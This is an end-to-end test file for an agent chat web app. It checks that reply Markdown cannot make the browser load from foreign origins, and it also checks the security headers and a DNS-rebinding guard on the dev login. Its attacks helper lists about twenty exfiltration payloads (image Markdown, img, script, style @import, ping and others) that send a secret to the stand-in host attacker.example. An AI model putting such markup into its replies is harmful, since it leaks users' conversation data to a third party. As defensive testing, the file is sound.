/**
 * What the page may load and how it is served (SPEC §8): agent Markdown cannot make the browser fetch from a
 * foreign origin (images only from ALLOWED_IMAGE_ORIGINS, else a link naming the host), and the page and its
 * assets carry a Content-Security-Policy that says the same, with the rest of the security headers.
 */
import { request } from 'node:http';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { connectBrowser, send, sharedImageOrigin, sharedStack, signedInContext, uniqueUser } from './support';

// The shared stack (e2e/global-setup.ts) lets images load from the shared image host and nowhere else.
const stack = sharedStack();
const imageOrigin = sharedImageOrigin();
let browser: Browser;

beforeAll(async () => {
  browser = await connectBrowser();
});
afterAll(async () => {
  await browser?.close();
});

/** The paths the image host was asked for, by any test so far. */
const imageRequests = async (): Promise<string[]> =>
  (await (await fetch(`${imageOrigin}/requests`)).json()) as string[];

/** Every way a reply's Markdown (or raw HTML in it) could make the browser fetch something. */
const attacks = (secret: string) =>
  [
    `![chart](https://attacker.example/p.png?d=${secret})`,
    `![by reference][ref]`,
    '',
    `[ref]: https://attacker.example/ref.png?d=${secret}`,
    '',
    `<img src="https://attacker.example/raw.png?d=${secret}" alt="raw">`,
    '',
    `<picture><source srcset="https://attacker.example/source.png?d=${secret}"><img src="https://attacker.example/picture.png"></picture>`,
    '',
    `<link rel="preload" as="image" href="https://attacker.example/preload.png?d=${secret}">`,
    `<link rel="stylesheet" href="https://attacker.example/sheet.css">`,
    `<video poster="https://attacker.example/poster.png" src="https://attacker.example/v.mp4"></video>`,
    `<audio src="https://attacker.example/a.mp3" autoplay></audio>`,
    `<iframe src="https://attacker.example/frame"></iframe>`,
    `<object data="https://attacker.example/object"></object>`,
    `<embed src="https://attacker.example/embed">`,
    `<svg><image href="https://attacker.example/svg.png"></image></svg>`,
    `<style>@import url(https://attacker.example/import.css); body { background: url(https://attacker.example/bg.png) }</style>`,
    `<div style="background: url(https://attacker.example/inline.png)">styled</div>`,
    `<input type="image" src="https://attacker.example/input.png">`,
    `<table background="https://attacker.example/table.png"><tr><td>cell</td></tr></table>`,
    `<a href="https://attacker.example/ping-target" ping="https://attacker.example/ping">pinged link</a>`,
    `<script src="https://attacker.example/script.js"></script>`,
    '',
    `![allowed](${imageOrigin}/ok.png)`,
  ].join('\n');

/** A signed-in page that records every request leaving for another origin (and stops it), and every CSP report. */
async function watchedPage(): Promise<{ page: Page; foreign: string[]; violations: () => Promise<string[]> }> {
  const context = await signedInContext(browser, stack, uniqueUser('security'));
  const own = new URL(stack.url).origin;
  const foreign: string[] = [];
  await context.route(
    (url) => url.origin !== own && url.origin !== imageOrigin,
    (route) => {
      foreign.push(route.request().url());
      return route.abort();
    },
  );
  await context.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { cspViolations: string[] }).cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (e) =>
      seen.push(`${e.violatedDirective} ${e.blockedURI} at ${e.sourceFile}:${e.lineNumber}`),
    );
  });
  const page = await context.newPage();
  await page.goto('/');
  await page.getByLabel('Message', { exact: true }).waitFor();
  const violations = () => page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations);
  return { page, foreign, violations };
}

describe('agent Markdown', () => {
  test('loads nothing from a foreign origin: a foreign image is a link naming its host', async () => {
    const { page, foreign, violations } = await watchedPage();
    const secret = 'the-conversation-text';
    await send(page, `!dev echo\n${attacks(secret)}`);
    const reply = page.locator('article.message.assistant[data-status="complete"]');
    await reply.waitFor();
    // The allowed image is in the page and has loaded: the page did render the reply's images.
    const allowed = reply.locator(`img[src="${imageOrigin}/ok.png"]`);
    await allowed.waitFor();
    await page.waitForFunction(
      (src) => (document.querySelector(`img[src="${src}"]`) as HTMLImageElement | null)?.complete,
      `${imageOrigin}/ok.png`,
    );
    expect(await imageRequests()).toContain('/ok.png');
    expect(foreign).toEqual([]);
    // Not blocked by the policy either: the page never asked.
    expect(await violations()).toEqual([]);

    const link = reply.locator('a.image-link').first();
    expect(await link.innerText()).toBe('chart (attacker.example)');
    expect(await link.getAttribute('href')).toBe(`https://attacker.example/p.png?d=${secret}`);
    expect(await reply.locator('a.image-link').count()).toBeGreaterThanOrEqual(2);
    expect(await reply.locator('img').count()).toBe(1);
    expect(await reply.locator('source, link, video, audio, iframe, object, embed, script, style').count()).toBe(0);

    // A reload renders the stored reply the same way.
    await page.reload();
    await page.locator('article.message.assistant[data-status="complete"]').waitFor();
    await page.locator(`img[src="${imageOrigin}/ok.png"]`).waitFor();
    expect(foreign).toEqual([]);
    expect(await violations()).toEqual([]);
    await page.context().close();
  });

  test('the page works under its policy: streaming, code highlighting, the socket, with no violation', async () => {
    const { page, foreign, violations } = await watchedPage();
    await send(page, '!dev echo\n# Title\n\n```ts\nconst answer: number = 42;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |');
    const reply = page.locator('article.message.assistant[data-status="complete"]');
    await reply.waitFor();
    await reply.locator('h1', { hasText: 'Title' }).waitFor();
    // Highlighted: the tokens carry their colours as inline styles, which the policy must not block.
    await page.waitForFunction(() => document.querySelector('article.message.assistant pre span[style]') !== null);
    expect(await page.locator('.connection').innerText()).toBe('Connected');
    expect(foreign).toEqual([]);
    expect(await violations()).toEqual([]);
    await page.context().close();
  });
});

describe('headers', () => {
  const get = (path: string, headers: Record<string, string> = {}) => fetch(`${stack.url}${path}`, { headers });

  test('the page: the CSP it needs, nosniff, no referrer, not cached, not framed', async () => {
    for (const path of ['/', `/c/${crypto.randomUUID()}`]) {
      const res = await get(path);
      expect(res.status, path).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^text\/html/);
      const csp = res.headers.get('content-security-policy') ?? '';
      expect(csp).toContain("default-src 'none'");
      expect(csp).toContain("script-src 'self'");
      expect(csp).toContain("connect-src 'self'");
      expect(csp).toContain(`img-src 'self' ${imageOrigin}`);
      expect(csp).toContain("frame-ancestors 'none'");
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('referrer-policy')).toBe('no-referrer');
      expect(res.headers.get('cache-control')).toBe('no-cache');
      expect(res.headers.get('x-frame-options')).toBe('DENY');
      expect(await res.text()).toContain(`<meta name="agent-chat-image-origins" content="${imageOrigin}">`);
    }
  });

  test('hashed assets: immutable, nosniff; their source maps are not served', async () => {
    const html = await (await get('/')).text();
    const assets = [...html.matchAll(/(?:src|href)="(\/assets\/[^"]+)"/g)].map((m) => m[1] ?? '');
    expect(assets.length).toBeGreaterThanOrEqual(2);
    for (const path of assets) {
      const res = await get(path);
      expect(res.status, path).toBe(200);
      expect(res.headers.get('cache-control'), path).toBe('public, max-age=31536000, immutable');
      expect(res.headers.get('x-content-type-options'), path).toBe('nosniff');
      expect(await res.text(), path).not.toMatch(/sourceMappingURL/);
      const map = await get(`${path}.map`);
      expect(map.status, `${path}.map`).toBe(404);
      expect(await map.text()).not.toMatch(/"mappings"/);
    }
    const missing = await get('/assets/missing-0000.js');
    expect(missing.status).toBe(404);
  });

  test('the page is fetched whole each time, so a changed setting shows at the next load', async () => {
    const first = await get('/');
    expect(first.headers.get('etag')).toBeNull();
    const again = await get('/', { 'if-none-match': '*', 'if-modified-since': new Date().toUTCString() });
    expect(again.status).toBe(200);
    expect(again.headers.get('content-security-policy')).toContain("script-src 'self'");
    expect(await again.text()).toContain('agent-chat-image-origins');
  });

  test('API responses: nosniff and no referrer too', async () => {
    for (const path of ['/healthz', '/api/v1/chat/conversations', '/api/v1/nothing']) {
      const res = await get(path);
      expect(res.headers.get('x-content-type-options'), path).toBe('nosniff');
      expect(res.headers.get('referrer-policy'), path).toBe('no-referrer');
      expect(res.headers.get('content-type'), path).toMatch(/json/);
    }
  });
});

describe('the local stack and DNS rebinding', () => {
  /** A request as a page on attacker.example sends it once that name resolves to 127.0.0.1. */
  const rebound = (path: string, host: string, body: string): Promise<number> =>
    new Promise((resolve, reject) => {
      const url = new URL(path, stack.url);
      const req = request(
        {
          host: '127.0.0.1',
          port: url.port,
          path: url.pathname,
          method: 'POST',
          headers: { host, origin: `http://${host}`, 'content-type': 'application/json' },
        },
        (res) => {
          res.resume();
          resolve(res.statusCode ?? 0);
        },
      );
      req.once('error', reject);
      req.end(body);
    });

  test('the dev login answers only to its own host names', async () => {
    const port = new URL(stack.url).port;
    const body = JSON.stringify({ user: uniqueUser('rebind') });
    expect(await rebound('/api/v1/dev/login', `attacker.example:${port}`, body)).toBe(403);
    expect(await rebound('/api/v1/dev/login', `127.0.0.1:${port}`, body)).toBe(200);
    expect(await rebound('/api/v1/dev/login', `localhost:${port}`, body)).toBe(200);
  });
});
